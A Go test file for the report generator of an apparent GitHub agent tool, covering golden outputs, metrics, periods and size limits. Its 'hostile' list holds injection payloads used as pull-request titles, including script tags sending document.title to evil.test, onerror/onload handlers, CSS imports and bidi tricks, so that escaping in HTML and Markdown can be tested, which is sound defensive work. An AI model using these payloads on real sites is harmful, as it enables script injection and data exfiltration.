package report

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mergexo/gh-mergexo/cmd/status"
	"github.com/mergexo/gh-mergexo/internal/terminal"
	"github.com/mergexo/gh-mergexo/internal/work"
	"github.com/mergexo/gh-mergexo/store"
)

var update = flag.Bool("update", false, "write the golden files")

var (
	now  = time.Date(2026, 11, 23, 9, 30, 0, 0, time.UTC)
	from = time.Date(2026, 10, 25, 0, 0, 0, 0, time.UTC)
	repo = work.RepoName{Host: "github.com", Owner: "octo", Name: "app"}
)

// hostile are titles that would run, load, hide, reorder or stretch.
var hostile = []string{
	`<script>fetch("http://evil.test/"+document.title);throw new Error("ran")</script>`,
	`</title><svg onload=alert(1)><image href="http://evil.test/x.png"></svg>`,
	`"><img src=http://evil.test/y.png onerror="console.error('ran')">`,
	`{{.Style}} </style><style>@import url(http://evil.test/z.css)</style> ${7*7} <!-- -->`,
	"abc \u202egpj.exe\u202c \u2066isolated\u2069 עברית العربية שלום",
	strings.Repeat("Pneumonoultramicroscopicsilicovolcanoconiosis", 12),
	"👩‍💻🏳️‍🌈 𝕬 é̴̡̢ 漢字かな " + strings.Repeat("\u0301", 40),
	"null \x00 bell \a escape \x1b[31m line\u2028sep \u2029 [link](javascript:alert(1)) @octo/team #1 | `code` ![](http://evil.test/a.png)",
}

// pull is a pull request that ended this many days ago; negative: it is open.
func pull(n int, title string, state work.PullState, days, human int) store.PullFacts {
	p := store.PullFacts{
		PullRequest: work.PullRequest{ID: int64(n), RepoID: 1, ItemID: int64(n), Number: n + 100, Title: title, URL: fmt.Sprintf("https://github.com/octo/app/pull/%d", n+100), State: state},
		Repo:        repo, Issue: n, Flow: work.FlowBugfix,
	}
	p.CreatedAt = now.Add(-time.Duration(days)*24*time.Hour - 5*time.Hour)
	if state == work.PullOpen {
		p.CreatedAt = now.Add(-time.Duration(days) * 24 * time.Hour)
		return p
	}
	p.End = work.PullEnd{PullID: p.ID, At: now.Add(-time.Duration(days)*24*time.Hour - time.Hour), Commits: 3, Human: human}
	return p
}

// sample are facts for every part of a report.
func sample(titles []string) Facts {
	title := func(i int) string { return titles[i%len(titles)] }
	f := Facts{From: from, Now: now, Called: work.RepoName.FullName}
	for n := range 14 {
		human := []int{0, 0, 1, -1, 0}[n%5]
		f.Pulls = append(f.Pulls, pull(n+1, title(n), work.PullMerged, n*2, human))
	}
	f.Pulls = append(f.Pulls, pull(20, title(1), work.PullClosed, 3, 0), pull(21, title(2), work.PullOpen, 2, 0), pull(22, title(3), work.PullOpen, 12, 0))
	gone := pull(23, title(4), work.PullOpen, 1, 0)
	gone.Failures = 1
	f.Pulls = append(f.Pulls, gone)
	for i, p := range f.Pulls {
		f.ByItem = append(f.ByItem, store.CostLine{TotalKey: store.TotalKey{ItemID: p.ItemID}, Runs: i%4 + 2, Turns: i%4 + 1, UsageSum: work.UsageSum{Usage: work.Usage{CostUSD: 0.35 * float64(i%5+1)}, UnknownCost: i % 9 / 8}})
	}
	day := func(n int) string { return now.AddDate(0, 0, -n).Format(time.DateOnly) }
	for n := range 28 {
		f.Costs = append(f.Costs, store.CostLine{TotalKey: store.TotalKey{Day: day(n)}, Runs: n%3 + 1, Turns: n%3 + 1, UsageSum: work.UsageSum{Usage: work.Usage{InputTokens: 120_000, OutputTokens: 4_000, CostUSD: 0.41}}})
		f.Answers = append(f.Answers, store.TimeLine{TotalKey: store.TotalKey{Day: day(n)}, Most: 10 * time.Minute, Count: 14, Sum: 105 * time.Minute},
			store.TimeLine{TotalKey: store.TotalKey{Day: day(n)}, Most: 20 * time.Minute, Count: n % 3, Sum: time.Hour})
	}
	f.Costs[3].UnknownCost = 2
	for i, kind := range []string{"tried_again", "tests_fail", "agent_credentials", "item_budget"} {
		f.Failures = append(f.Failures, store.CountLine{TotalKey: store.TotalKey{Day: day(i), Kind: kind}, Count: 7 - 2*i}, store.CountLine{TotalKey: store.TotalKey{Day: day(i + 5), Kind: kind}, Count: 1})
	}
	for i, who := range []string{"quinn", "", "sam"} {
		f.Verdicts = append(f.Verdicts, store.VerdictLine{TotalKey: store.TotalKey{Reviewer: who, Outcome: "approve"}, Count: 9 - 3*i},
			store.VerdictLine{TotalKey: store.TotalKey{Reviewer: who, Outcome: "request_changes"}, Count: 2 + i, Findings: 5})
	}
	since := now.Add(-26 * time.Hour)
	for i, state := range []string{"blocked", "awaiting_feedback", "running"} {
		f.Items = append(f.Items, status.Item{
			Repo: "octo/app", Number: 21 + i, Title: title(i), URL: fmt.Sprintf("https://github.com/octo/app/issues/%d", 21+i), Flow: "bugfix", State: state, Since: terminal.Stamp(since),
			WaitingFor: "the agent asks: " + title(i+1), ReasonCode: work.WhyQuestion, NextStep: "answer in a comment on the issue", Stopped: i == 0,
			PullRequest: &status.PullRequest{Number: 121 + i, URL: fmt.Sprintf("https://github.com/octo/app/pull/%d", 121+i)},
		})
	}
	return f
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(want) != got {
		t.Errorf("%s differs; go test ./cmd/report -update writes it. Got:\n%s", name, got)
	}
}

var friendly = []string{"Crash on start", "Add a cache", "Say why it is so", "Typo"}

func TestReportsAreWhatTheyWere(t *testing.T) {
	r := Make(sample(friendly))
	golden(t, "report.md", r.Markdown())
	b, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "report.json", string(b)+"\n")
}

func TestNumbers(t *testing.T) {
	r := Make(sample(friendly))
	n, tiles := r.Numbers, r.document().Tiles
	if n.Outcomes[work.Accepted] != 14 || n.Outcomes[work.Rejected] != 1 || n.Outcomes[work.Pending] != 1 || n.Outcomes[work.Ignored] != 1 || n.Outcomes[work.Unknown] != 1 {
		t.Errorf("outcomes %v", n.Outcomes)
	}
	if n.ZeroTouch != 8 || n.ZeroKnown != 11 { // of 14: eight without and three with a person's commit, three unknown
		t.Errorf("zero touch %d of %d", n.ZeroTouch, n.ZeroKnown)
	}
	if n.Unknown != 2 || n.failures != 20 {
		t.Errorf("%+v", n)
	}
	if now := tiles[len(tiles)-1]; now.Value != "1" || now.More != "2 waiting" {
		t.Errorf("%+v", now)
	}
}

// No format shows sections without data.
func TestNothing(t *testing.T) {
	r := Make(Facts{From: from, Now: now, Called: work.RepoName.FullName})
	page, err := r.HTML()
	if err != nil || !strings.Contains(string(page), "Nothing happened in this time") || strings.Contains(string(page), "<table") {
		t.Errorf("%v, %s", err, page)
	}
	if got := r.Markdown(); !strings.HasSuffix(got, "Nothing happened in this time, and nothing is open.\n") {
		t.Error(got)
	}
	b, err := json.Marshal(r)
	if err != nil || strings.Contains(string(b), `s":null`) && !strings.Contains(string(b), `Seconds`) {
		t.Errorf("%v, %s", err, b)
	}
	for _, list := range []string{"pullRequests", "items", "failures", "verdicts"} {
		if !strings.Contains(string(b), `"`+list+`":[]`) {
			t.Errorf("%s in %s", list, b)
		}
	}
	if page, err := Make(Facts{Now: now, Called: work.RepoName.FullName, Items: sample(friendly).Items}).HTML(); err != nil || strings.Contains(string(page), "Over time") {
		t.Errorf("%v: a table of nothing", err)
	}
}

// People's text is only text, in every format.
func TestHostileTitlesAreText(t *testing.T) {
	r := Make(sample(hostile))
	page, err := r.HTML()
	if err != nil {
		t.Fatal(err)
	}
	for _, not := range []string{"<script", "<img", "onload=alert(1)>", "<image", "javascript:alert(1)\"", "href=\"http://evil"} {
		if strings.Contains(strings.ToLower(string(page)), not) {
			t.Errorf("the page has %q", not)
		}
	}
	if strings.ContainsAny(string(page), "\u202e\u2066\x1b\x00\a") || !strings.Contains(string(page), "👩‍💻") {
		t.Error("the page has what hides and reorders, or lacks what joins")
	}
	md := r.Markdown()
	for _, not := range []string{"<script", "<img", "<svg", "](javascript", "![", "@octo", "\u202e"} {
		if strings.Contains(md, not) {
			t.Errorf("Markdown has %q", not)
		}
	}
	if got, want := plain("@octo, a#1"), "&#64;\u200bocto, a&#35;\u200b1"; got != want {
		t.Errorf("plain gives %q, want %q: a number for an @ still mentions", got, want)
	}
	if rows := strings.Count(md, "\n| ["); rows != 21 {
		t.Errorf("%d rows of items and pull requests", rows)
	}
}

// A report over a year of much work is made quickly, and is small.
func TestLargeReports(t *testing.T) {
	f := sample(hostile)
	f.From = time.Time{}
	f.Pulls, f.ByItem = nil, nil
	for n := range 2000 {
		f.Pulls = append(f.Pulls, pull(n+1, hostile[n%len(hostile)], work.PullMerged, n/6, n%3))
	}
	began := time.Now()
	page, err := Make(f).HTML()
	if err != nil || len(page) > 1<<20 {
		t.Errorf("%d bytes, %v", len(page), err)
	}
	if took := time.Since(began); took > time.Minute {
		t.Errorf("it took %s", took)
	}
	t.Logf("%d bytes in %s", len(page), time.Since(began))
}

func TestWithin(t *testing.T) {
	counts := map[time.Duration]int{5 * time.Minute: 2, 10 * time.Minute: 2, 0: 1}
	for part, want := range map[float64]float64{0.2: 210, 0.4: 300, 0.6: 450, 0.9: 86400} {
		if got := within(counts, part); got != want {
			t.Errorf("%g: %g, want %g", part, got, want)
		}
	}
}

// A month is shown day by day, a longer time month by month, and nothing where nothing happened.
func TestPeriods(t *testing.T) {
	for days, want := range map[int]string{7: "2026-11-20 2026-11-23", 30: "2026-11-03 2026-11-20 2026-11-23", 90: "2026-10 2026-11"} {
		f := Facts{Now: now, From: now.AddDate(0, 0, -days).Truncate(24 * time.Hour), Called: work.RepoName.FullName}
		for _, ago := range []int{0, 3, 20, 40} {
			if ago < days {
				f.Pulls = append(f.Pulls, pull(ago, "x", work.PullMerged, ago, 0))
			}
		}
		names := terminal.Each(Make(f).periods, func(p period) string { return p.name })
		if got := strings.Join(names, " "); got != want {
			t.Errorf("%d days: %s, want %s", days, got, want)
		}
	}
}

// If the machine's clock is behind, --since may name a day that has not begun: there is nothing to
// draw.
func TestFromADayThatHasNotBegun(t *testing.T) {
	now := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	r := Make(Facts{From: now.AddDate(1, 0, 0), Now: now, Called: work.RepoName.FullName})
	if page, err := r.HTML(); err != nil || len(page) == 0 || len(r.periods) != 0 {
		t.Errorf("%d bytes, %d periods, %v", len(page), len(r.periods), err)
	}
}

// A summary on GitHub is limited to a megabyte: a long list is cut, with a note.
func TestMarkdownIsBounded(t *testing.T) {
	now := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	items := make([]status.Item, 3*mostRows)
	for i := range items {
		items[i] = status.Item{Repo: "octo/app", Number: i, Title: "x", State: "ready", Since: terminal.Stamp(now)}
	}
	text := Make(Facts{Now: now, Items: items, Called: work.RepoName.FullName}).Markdown()
	if n := strings.Count(text, "octo/app#"); n != mostRows || !strings.Contains(text, "\n400 more.\n") {
		t.Errorf("%d of %d items: %.300s", n, len(items), text)
	}
}

// A quantile of few answers says nothing: there is none below ten, and from ten on there is.
func TestQuantilesAreOfTenOrMore(t *testing.T) {
	for n := range 12 {
		f := sample(friendly)
		f.Answers = []store.TimeLine{{TotalKey: f.Answers[0].TotalKey, Most: time.Minute, Count: n}}
		r := Make(f)
		if got := r.Numbers.AnswerMedian != nil && r.Numbers.AnswerMost != nil; got != (n >= 10) {
			t.Errorf("%d answers: a median is there: %v", n, got)
		}
		for _, p := range r.periods {
			if got := p.AnswerMedian != nil; got != (p.Answers >= 10) {
				t.Errorf("%d answers in a period: a median is there: %v", p.Answers, got)
			}
		}
	}
}
